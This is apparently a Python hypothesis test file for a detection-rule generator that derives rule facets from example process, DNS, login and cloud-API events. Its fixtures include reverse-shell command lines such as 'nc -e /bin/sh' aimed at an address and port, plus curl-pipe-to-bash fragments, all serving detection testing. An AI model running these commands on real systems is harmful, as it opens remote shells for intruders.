"""Facets are true of what they were made of, hold no literal that only one example has, and rank what lasts first."""

from hypothesis import given, settings
from hypothesis import strategies as st

from ruleforge.events.event import Event, EventView, make_event
from ruleforge.events.kinds import EVENTS
from ruleforge.generate.event_facets import BITS_MOST, FACET_KINDS, bits_of, facets_of, holds_for, tree_of
from ruleforge.rules.lint import lint
from ruleforge.rules.tree import AllOf, Rule

WORDS = st.sampled_from(
    ["nc", "-e", "/bin/sh", "203.0.113.7", "4444", "curl", "http://a.example/x", "|", "bash", "/tmp/x", "id"]
)
PROCESSES = st.builds(
    lambda name, words, parent: make_event(
        "process",
        {"process.name": name, "process.command_line": " ".join([name, *words]), "parent.name": parent},
        time_us=0, id="x", source="x",
    ),
    st.sampled_from(["nc", "bash", "curl"]), st.lists(WORDS, max_size=6), st.sampled_from(["sh", "nginx", "cron"]),
)  # fmt: skip
QUERIES = st.builds(
    lambda labels, kind: make_event(
        "dns", {"question.name": ".".join([*labels, "example"]), "question.type": kind}, time_us=0, id="x", source="x"
    ),
    st.lists(st.text("abcdef0123456789", min_size=1, max_size=50), min_size=1, max_size=5),
    st.sampled_from(["A", "TXT"]),
)


def said(*events: Event) -> set[str]:
    return {facet.said for facet in facets_of(events, EVENTS[events[0].kind])}


def process(line: str, name: str = "nc") -> Event:
    return make_event("process", {"process.name": name, "process.command_line": line}, time_us=0, id="x", source="x")


@settings(max_examples=60)
@given(st.one_of(st.lists(PROCESSES, min_size=1, max_size=4), st.lists(QUERIES, min_size=1, max_size=4)))
def test_every_facet_is_true_of_every_example_and_sound(events: list[Event]) -> None:
    facets = facets_of(events, EVENTS[events[0].kind])
    assert len({facet.id for facet in facets}) == len(facets)
    for facet in facets:
        assert holds_for(facet, [EventView(event) for event in events]) == (1 << len(events)) - 1
        assert facet.kind in FACET_KINDS
        assert lint(Rule(id="X", when=facet.tree, event=events[0].kind)) == ()


def test_a_word_counts_only_where_all_examples_have_it() -> None:
    told = said(process("nc -e /bin/sh 203.0.113.5 4444"), process("nc -e /bin/bash 198.51.100.9 9001"))
    assert 'process.command_line has "-e" as a word' in told
    assert "process.command_line has an IPv4 address" in told
    assert not any("203.0.113.5" in one or "4444" in one or "bin/sh" in one for one in told)


def test_what_the_attacker_chose_is_no_word_even_where_all_have_it() -> None:
    told = said(process("nc -e /tmp/run.sh 203.0.113.5 4444"), process("nc -e /tmp/run.sh 203.0.113.5 4444"))
    assert not any("203.0.113.5" in one or "4444" in one or "/tmp/run.sh" in one for one in told)


def test_a_list_of_values_needs_several_examples_of_each() -> None:
    one, other = process("a", "nc"), process("a", "ncat")
    assert not any("is one of" in text for text in said(one, other))
    assert 'process.name is one of "nc", "ncat"' in said(one, other, one, other)


def test_whose_an_event_is_is_never_compared_but_for_who_is_known_everywhere() -> None:
    def login(user: str) -> Event:
        given = {"action": "login", "user": user, "source.address": "203.0.113.5"}
        return make_event("auth_log", given, time_us=0, id="x", source="x")

    assert not any("user" in one or "203" in one for one in said(login("ada"), login("ada")))
    assert 'user is "root"' in said(login("root"), login("ROOT"))


def test_parameters_of_calls_are_asked_by_their_pointer() -> None:
    given = {"action": "X", "request": {"/a/b": "Enabled", "/c": "0.0.0.0/0"}}
    event = make_event("cloud_api", given, time_us=0, id="x", source="x")
    told = said(event, event)
    assert 'request "/a/b" is "enabled"' in told
    assert 'request "/c" has open to everybody' in told


def test_which_place_of_a_list_a_parameter_has_says_nothing() -> None:
    def call(place: int, port: str) -> Event:
        given = {"action": "X", "request": {f"/rules/{place}/net.v4": "0.0.0.0/0", "/port": port}}
        return make_event("cloud_api", given, time_us=0, id="x", source="x")

    facets = facets_of([call(0, "22"), call(7, "80")], EVENTS["cloud_api"])
    (facet,) = [one for one in facets if one.tree.field == "request"]
    assert facet.said == 'request "/rules/*/net.v4" has open to everybody'
    assert facet.ask(EventView(call(12, "1"))) is True
    other = make_event("cloud_api", {"request": {"/rules/x/net.v4": "0.0.0.0/0"}}, time_us=0, id="x", source="x")
    assert facet.ask(EventView(other)) is False


def test_numbers_become_bounds_with_room() -> None:
    events = [make_event("network_flow", {"bytes": n}, time_us=0, id="x", source="x") for n in (1_000, 2_000)]
    assert said(*events) == {"bytes is more than 750", "bytes is less than 2501"}


def test_surprise_is_bounded_by_the_kind_and_by_what_was_looked_at() -> None:
    facet = facets_of([process("nc -e x")], EVENTS["process"])[0]
    assert bits_of(facet, 100, 100) < 0.01
    assert 0 < bits_of(facet, 0, 5) < bits_of(facet, 0, 100) <= BITS_MOST[facet.kind]
    assert bits_of(facet, 0, 10**9) == BITS_MOST[facet.kind]


def test_one_facet_is_asked_as_it_is_and_several_together() -> None:
    facets = facets_of([process("nc -e x")], EVENTS["process"])
    assert tree_of(facets[:1]) == facets[0].tree
    assert tree_of(facets[:2]) == AllOf((facets[0].tree, facets[1].tree))
